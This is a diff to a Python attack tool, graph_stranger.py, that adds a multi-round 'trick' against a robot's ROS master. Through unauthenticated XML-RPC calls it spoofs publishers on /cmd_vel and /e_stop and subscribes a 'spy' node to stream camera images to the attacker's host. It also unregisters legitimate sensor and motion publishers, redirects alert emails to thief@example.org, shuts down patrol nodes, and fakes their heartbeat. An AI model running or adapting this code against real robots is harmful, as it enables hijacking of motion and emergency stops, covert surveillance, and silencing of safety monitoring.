@@ -2,12 +2,17 @@
 
 graph_stranger.py look                 on the robot: the ports of its nodes, as JSON
 graph_stranger.py attack PORTS ADDRESS...   from elsewhere: which orders are taken, as JSON
+graph_stranger.py trick N ROBOT OWN    the N-th round of tricks with an open graph; stays in it until it is ended
 """
 
+import contextlib
+import http.client
 import json
+import os
 import socket
 import struct
 import sys
+import time
 import xmlrpc.client
 from concurrent.futures import ThreadPoolExecutor
 from urllib.parse import urlparse
@@ -92,10 +97,46 @@ def attack(ports, addresses):
     return {what: good for (what, _), good in zip(tries, taken, strict=True)}
 
 
-if __name__ == "__main__":
-    if sys.argv[1] == "look":
-        import os
+def sign_off(master, topic, node):
+    """A publisher, at the master, in its own name."""
+    return master.unregisterPublisher(node, topic, master.lookupNode("/x", node)[2])
 
+
+def trick(number, robot, own):
+    master = proxy(robot, 11311)
+    here = f"http://{own}:9999/"
+    if number == 0:
+        master.registerPublisher("/twin", "/cmd_vel", "geometry_msgs/Twist", f"http://{robot}:9998/")
+        master.registerPublisher("/thief", "/e_stop", "std_msgs/Bool", here)
+        master.registerSubscriber("/spy", "/camera/rgb/image_raw", "sensor_msgs/Image", here)
+        for topic in ("/camera/rgb/image_raw", "/scan", "/odom", "/darknet_ros/bounding_boxes"):
+            sign_off(master, topic, f"/speaker{topic.replace('/', '_')}")
+        for name in (
+            "/patrolling_node/email_to",
+            "/sensor_watch/email_to",
+            "/twist_mux/limits",
+            "/esp_client1/key_file",
+        ):
+            master.setParam("/x", name, "thief@example.org")
+    elif number == 1:
+        sign_off(master, "/motion_trigger", "/esp_client1")
+        sign_off(master, "/cmd_vel", "/twist_mux")
+        master.unregisterPublisher("/twin", "/cmd_vel", f"http://{robot}:9998/")
+        master.unregisterSubscriber(
+            "/patrolling_node", "/motion_trigger", master.lookupNode("/x", "/patrolling_node")[2]
+        )
+    else:
+        for node in ("/esp_client1", "/patrolling_node"):
+            with contextlib.suppress(OSError, xmlrpc.client.Error, http.client.HTTPException):  # it ends at once
+                xmlrpc.client.ServerProxy(master.lookupNode("/x", node)[2]).shutdown("/x", "out")
+        time.sleep(15.0)
+        master.registerPublisher("/patrolling_node", "/patrol/alive", "std_msgs/Empty", here)
+
+
+if __name__ == "__main__":
+    if sys.argv[1] == "trick":
+        trick(int(sys.argv[2]), *sys.argv[3:])
+    elif sys.argv[1] == "look":
         print(json.dumps(look(os.environ["ROS_MASTER_URI"])))
     else:
         print(json.dumps(attack(json.loads(sys.argv[2]), sys.argv[3:])))
